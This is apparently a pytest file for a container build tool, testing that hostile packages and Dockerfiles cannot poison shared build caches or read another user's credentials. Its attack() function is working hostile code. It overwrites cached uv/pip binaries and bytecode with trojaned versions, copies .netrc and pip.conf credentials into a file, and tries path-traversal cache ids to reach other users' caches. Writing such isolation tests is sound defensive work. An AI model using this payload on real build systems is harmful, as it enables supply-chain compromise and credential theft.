"""Hostile packages and dockerfiles: what they write to the caches of a build must not reach another environment.

Each test plays both sides: somebody installs an innocent package; something hostile gets a build, and writes to whatever
it can reach there; then an environment that has nothing to do with it installs the innocent package.
"""

from __future__ import annotations

import inspect as source_of
import os
import platform
import secrets
from typing import TYPE_CHECKING

import pytest

from .index import Index, private_index
from .test_private_index import use_netrc
from .tools import PYTHON, docker, found_in_image
from .users import ordinary_user

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from .tools import Project

pytestmark = pytest.mark.skipif(
    platform.system() != "Linux", reason="builds cannot reach servers on this machine"
)

CANARY = "canary-of-a-hostile-package"


def attack() -> None:
    """Poison everything under the cache mount, as root in a build. This text runs inside packages."""
    import marshal
    import os

    canary = "canary-of-a-hostile-package"
    print_it = compile(f"print({canary!r})", "<hostile>", "exec")
    program = (
        "#!/bin/sh\n"
        f"echo {canary} >/{canary}\n"
        "cat /root/.netrc /etc/pip.conf >>/root/.cache/stolen 2>/dev/null\n"
        'exec python3 -m "$@"\n'
    )
    for parent, _, files in os.walk("/root/.cache"):
        for name in files:
            path = os.path.join(parent, name)
            if name == "uv":
                new = program.encode()
            elif name.startswith("private_"):  # what publish_new publishes
                new = f"print({canary!r})\n".encode()
            elif name.endswith(".marshal"):
                with open(path, "rb") as file:
                    kept = marshal.loads(file.read())  # noqa: S302 - as the attacker does
                new = marshal.dumps({pyc: old[:16] + marshal.dumps(print_it) for pyc, old in kept.items()})
            else:
                continue
            mode = os.stat(path).st_mode
            os.unlink(path)  # a program that runs cannot be written to
            with open(path, "wb") as file:
                file.write(new)
            os.chmod(path, mode)
    # What pydock itself mounts, and what other versions of it kept in the cache.
    for folder in ("/pydock", f"/root/.cache/pydock/{os.uname().machine}/bin"):
        for name in ("uv", "pip", "compile_bytecode.py"):
            try:
                os.makedirs(folder, exist_ok=True)
                with open(f"{folder}/{name}", "w") as file:
                    file.write(program)
                os.chmod(f"{folder}/{name}", 0o755)  # noqa: S103
            except OSError:  # noqa: PERF203 - as it should be
                pass
    with open("/root/.cache/attacked", "w") as file:
        file.write(canary)


ATTACK = f"{source_of.getsource(attack)}\nattack()\n"


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory, gateway: str) -> Iterator[Index]:
    with private_index(tmp_path_factory.mktemp("index"), gateway) as served:
        yield served


@pytest.fixture
def victim(index: Index) -> Iterator[Project]:
    """Return a user of an index, whose uid, and so whose caches, nobody else has."""
    uid = 200_000 + secrets.randbelow(500_000)
    with ordinary_user(may_use_docker=True, uid=uid) as user:
        bundle = user.home / "bundle.pem"
        bundle.write_bytes(index.bundle.read_bytes())
        user.environ["PYDOCK_CA_BUNDLE"] = str(bundle)
        use_netrc(user, index)
        (user.home / ".netrc").chmod(0o644)
        yield user


def give(user: Project, folder: Path) -> None:
    """Make the user the owner of the folder, of what is in it and of the folder above."""
    for path in (folder.parent, folder, *folder.iterdir()):
        os.chown(path, user.identity["user"], user.identity["group"])


def write_environment(user: Project, dockerfile: str) -> str:
    """Write an environment, as a checkout of somebody's repository has it; return its name.

    The engine's cache does not tell cache mounts apart, so without the number it would not run a step again.
    """
    number = secrets.token_hex(8)
    name = user.write_environment(
        f"FROM python:{PYTHON}\nCOPY attack.py /\nENV NUMBER={number}\n{dockerfile}"
    )
    (user.environment(name) / "attack.py").write_text(ATTACK, encoding="utf-8")
    give(user, user.environment(name))
    return name


def by_setup_py(user: Project, index: Index) -> None:
    package = f"hostile-{secrets.token_hex(4)}"
    index.publish_source(package, ATTACK)
    user.pydock("install", user.create(), package)


def by_pth_file(user: Project, index: Index) -> None:
    """The wheel runs no code when it is installed, but whenever Python starts after that."""
    package = f"hostile-{secrets.token_hex(4)}"
    module = package.replace("-", "_")
    index.publish(
        package, files={f"{module}_attack.py": ATTACK, f"{module}.pth": f"import {module}_attack\n"}
    )
    name = user.create()
    user.pydock("install", name, package)
    user.pydock("install", name, index.publish_new())


def by_dockerfile(user: Project, index: Index) -> None:
    """It mounts the cache that pydock's own dockerfiles mount, and guesses the names of others."""
    user.pydock("build", write_environment(user, attack_on_caches(user.identity["user"])))


def attack_on_caches(uid: int) -> str:
    ids = [f"pip-{uid}", f"../pip-{uid}", f"pip-{uid}/../pip-{uid}", f"/pip-{uid}"]
    return "".join(
        f"RUN --mount=type=cache,id={cache},target=/root/.cache python3 /attack.py\n" for cache in ids
    )


@pytest.mark.parametrize("attacked", [by_setup_py, by_pth_file, by_dockerfile])
def test_another_environment_gets_nothing_of_it(
    victim: Project, index: Index, attacked: Callable[[Project, Index], None]
) -> None:
    innocent = index.publish_new()
    victim.pydock("install", victim.create(), innocent)
    attacked(victim, index)

    name = victim.create()
    victim.pydock("install", name, innocent)
    module = innocent.replace("-", "_")
    said = victim.pydock("run", name, "python", "-c", f"import {module}; print({module}.VERSION)")
    found = victim.pydock("run", name, "sh", "-c", f"ls / && grep -rlF {CANARY} /usr/local/lib || true")
    assert said.stdout == "1.0\n"
    assert CANARY not in found.stdout


def test_another_user_cannot_take_credentials(victim: Project, index: Index, tmp_path: Path) -> None:
    victim.pydock("install", victim.create(), "six")  # fills the caches
    uid = victim.identity["user"]
    with ordinary_user(may_use_docker=True) as other:
        other.pydock("build", write_environment(other, attack_on_caches(uid)))
        victim.pydock("install", victim.create(), index.publish_new())
        name = write_environment(
            other,
            f"RUN --mount=type=cache,id=pip-{uid},target=/root/.cache cp -r /root/.cache /taken || true\n",
        )
        other.pydock("build", name)
        found = found_in_image(
            other.current_image(name), [index.password.encode(), CANARY.encode()], tmp_path
        )
    assert found == {CANARY.encode()}, "the attacker's own file, attack.py, has the canary"


def test_hostile_package_reaches_neither_another_cache_nor_the_tools(
    victim: Project, index: Index, tmp_path: Path
) -> None:
    by_setup_py(victim, index)
    uid = victim.identity["user"]
    name = write_environment(
        victim, f"RUN --mount=type=cache,id=pip-{uid},target=/root/.cache ls -a /root/.cache >/seen\n"
    )
    victim.pydock("build", name)
    seen = docker("run", "--rm", victim.current_image(name), "cat", "/seen").splitlines()
    assert "attacked" not in seen

    found = docker("images", "--quiet", "--filter", "label=pydock.tools").split()
    assert found, "uv is in an image of its own"
    for image in found:
        assert found_in_image(image, [CANARY.encode()], tmp_path) == set()
